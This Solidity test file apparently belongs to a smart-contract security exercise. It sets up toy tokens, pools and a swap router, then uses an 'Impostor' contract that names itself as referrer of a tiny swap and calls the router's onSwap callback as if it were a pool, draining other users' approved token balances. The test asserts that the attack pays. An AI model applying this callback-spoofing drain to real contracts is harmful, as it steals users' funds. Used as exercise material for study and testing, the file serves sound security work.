// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Bourse} from "../storage-collision/src/Bourse.sol";
import {Desk} from "../storage-collision/src/Desk.sol";
import {IERC20, Token} from "../../shared/Erc20.sol";

interface Vm {
    function startPrank(address sender) external;
    function stopPrank() external;
}

/// Names itself as the referrer of a tiny swap, and then calls back like a bourse.
contract Impostor {
    function run(Desk desk, Bourse bourse, IERC20[] calldata tokens, address[] calldata owners) external {
        bourse.token1().approve(address(desk), type(uint256).max);
        desk.swap(bourse, false, 10, 0, address(this), address(this));
        for (uint256 i = 0; i < tokens.length; ++i) {
            desk.onSwap(tokens[i], tokens[i].balanceOf(owners[i]), owners[i]);
        }
    }
}

contract StorageCollisionTest {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant ALICE = address(0xA11CE);
    address private constant BOB = address(0xB0B);
    address private constant MIRA = address(0x317A);

    event Profit(uint256 crowns);

    Token private crown;
    Token private jade;
    Token private opal;
    Bourse private jades;
    Bourse private opals;
    Desk private desk;
    Impostor private impostor;

    function setUp() public {
        crown = new Token("Crown", "CRN");
        jade = new Token("Jade", "JDE");
        opal = new Token("Opal", "OPL");
        jades = new Bourse(jade, crown, 25);
        opals = new Bourse(opal, crown, 30);
        desk = new Desk(address(this));
        desk.list(jades, true);
        desk.list(opals, true);
        impostor = new Impostor();

        crown.mint(MIRA, 9_000_000 ether);
        jade.mint(MIRA, 500_000 ether);
        opal.mint(MIRA, 30_000 ether);
        crown.mint(ALICE, 780_000 ether);
        jade.mint(ALICE, 120_000 ether);
        crown.mint(BOB, 350_000 ether);
        opal.mint(BOB, 5_200 ether);
        crown.mint(address(impostor), 15_000 ether);
        jade.mint(address(impostor), 600 ether);

        vm.startPrank(MIRA);
        crown.approve(address(jades), 1e60);
        jade.approve(address(jades), 1e60);
        crown.approve(address(opals), 1e60);
        opal.approve(address(opals), 1e60);
        jades.provide(400_000 ether, 3_200_000 ether);
        opals.provide(24_000 ether, 3_600_000 ether);
        vm.stopPrank();
        _start(ALICE);
        desk.swap(jades, false, 8_000 ether, 980 ether, ALICE, MIRA);
        vm.stopPrank();
        // In heist.toml the last swaps name nobody. The set-up here is one transaction, in which a referrer holds: so mira's.
        _start(ALICE);
        desk.swap(jades, true, 1_000 ether, 7_900 ether, ALICE, MIRA);
        vm.stopPrank();
        _start(BOB);
        desk.swap(opals, true, 30 ether, 4_400 ether, BOB, ALICE);
        desk.swap(opals, false, 4_520 ether, 29 ether, BOB, MIRA);
        vm.stopPrank();
    }

    function _start(address who) private {
        vm.startPrank(who);
        crown.approve(address(desk), 1e60);
        jade.approve(address(desk), 1e60);
        opal.approve(address(desk), 1e60);
    }

    function _worth(address who) private view returns (uint256) {
        return crown.balanceOf(who) + 8 * jade.balanceOf(who) + 150 * opal.balanceOf(who);
    }

    function test_attack_pays() public {
        uint256 before = _worth(address(impostor));
        uint256 open = _worth(ALICE) + _worth(BOB);
        IERC20[] memory tokens = new IERC20[](5);
        address[] memory owners = new address[](5);
        (tokens[0], owners[0]) = (crown, ALICE);
        (tokens[1], owners[1]) = (jade, ALICE);
        (tokens[2], owners[2]) = (crown, BOB);
        (tokens[3], owners[3]) = (opal, BOB);
        (tokens[4], owners[4]) = (opal, ALICE);
        impostor.run(desk, jades, tokens, owners);
        uint256 profit = _worth(address(impostor)) - before;
        emit Profit(profit);
        require(profit == open - 2, "less than all");
    }
}
